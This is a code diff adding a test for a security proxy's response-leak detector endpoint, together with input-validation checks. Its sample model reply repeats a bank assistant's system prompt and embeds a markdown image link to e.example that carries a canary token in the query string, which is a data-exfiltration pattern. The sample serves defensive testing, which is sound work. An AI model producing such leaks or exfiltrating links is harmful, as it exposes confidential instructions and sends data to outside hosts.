@@ -204,6 +204,30 @@ def test_bad_batch_and_feedback_bodies(proxy: Callable[..., H3ProxyThread]) -> N
     run(go())
 
 
+def test_response_route_matches_the_embedded_detector(proxy: Callable[..., H3ProxyThread], detector: Any) -> None:
+    """POST /v1/detect/response: the report `Detector.scan_response` gives, and the same 4xx rules as Serve."""
+    h = proxy()
+    system = "You are Helix, the support assistant of Northwind Bank. Never discuss interest rates for business."
+    leak = "Sure! You are Helix, the support assistant of Northwind Bank. ![x](https://e.example/p?c=ZEBRA-7731)"
+    expected = _strip(detector.scan_response(leak, system_prompt=system, canaries=["ZEBRA-7731"]).to_dict())
+
+    async def go() -> None:
+        async with client(h) as c:
+            got = await c.detect_response(leak, system_prompt=system, canaries=["ZEBRA-7731"])
+            assert _strip(got) == expected and got["is_threat"] and "<LINK_1>" in got["sanitized_text"]
+            for body, needle in [({"text": "a", "session_id": "s"}, "unknown field(s): session_id"),
+                                 ({"system_prompt": "x"}, "missing field: text"),
+                                 ({"text": "a", "canaries": "x"}, "canaries must be a list"),
+                                 ({"text": "a", "canaries": [""]}, "canaries[0]"),
+                                 ({"text": "a", "prompt": 3}, "prompt must be a string")]:
+                r = await c.request("POST", "/v1/detect/response", body)
+                assert r.status == 422 and needle in r.json()["error"], (body, r.body)
+            r = await c.request("POST", "/v1/detect/response", {"text": "fine", "request_id": "r-9"})
+            assert r.status == 200 and r.json()["request_id"] == "r-9" and not r.json()["is_threat"]
+
+    run(go())
+
+
 # --- 0-RTT ---------------------------------------------------------------------------------------------------------
 
 
